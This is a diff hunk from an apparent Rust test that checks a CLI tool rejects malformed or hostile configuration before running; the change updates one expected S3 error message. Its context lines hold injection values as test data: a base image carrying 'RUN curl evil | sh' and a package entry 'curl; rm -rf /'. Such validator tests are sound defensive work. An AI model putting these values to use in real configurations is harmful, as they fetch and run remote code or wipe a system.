@@ -682,7 +682,7 @@ fn bad_input_is_refused_before_anything_runs() {
         (command(""), vec!["--hp", "lr=1e400"], vec!["lr", "not a finite number"]),
         (command(""), vec!["--set", "lr=0.1,NaN"], vec!["lr", "not a finite number"]),
         (command("[sweep]\nlr = [0.1, nan]"), vec![], vec!["lr", "not a finite number"]),
-        (command("[channels]\ntraining = \"s3://bucket/data\""), vec!["--dry-run"], vec!["channel `training` is in S3"]),
+        (command("[channels]\ntraining = \"s3://bucket/data\""), vec!["--dry-run"], vec!["training", "in S3", "AWS"]),
         (command(""), vec!["--grace", "100000"], vec!["--grace"]),
         (command("[container]\nbase_image = \"python:3.11\\nRUN curl evil | sh\""), vec![], vec!["task.toml:6:", "base_image", "control character"]),
         (command("[container]\nsystem_packages = [\"curl; rm -rf /\"]"), vec![], vec!["system_packages", "curl; rm -rf /"]),
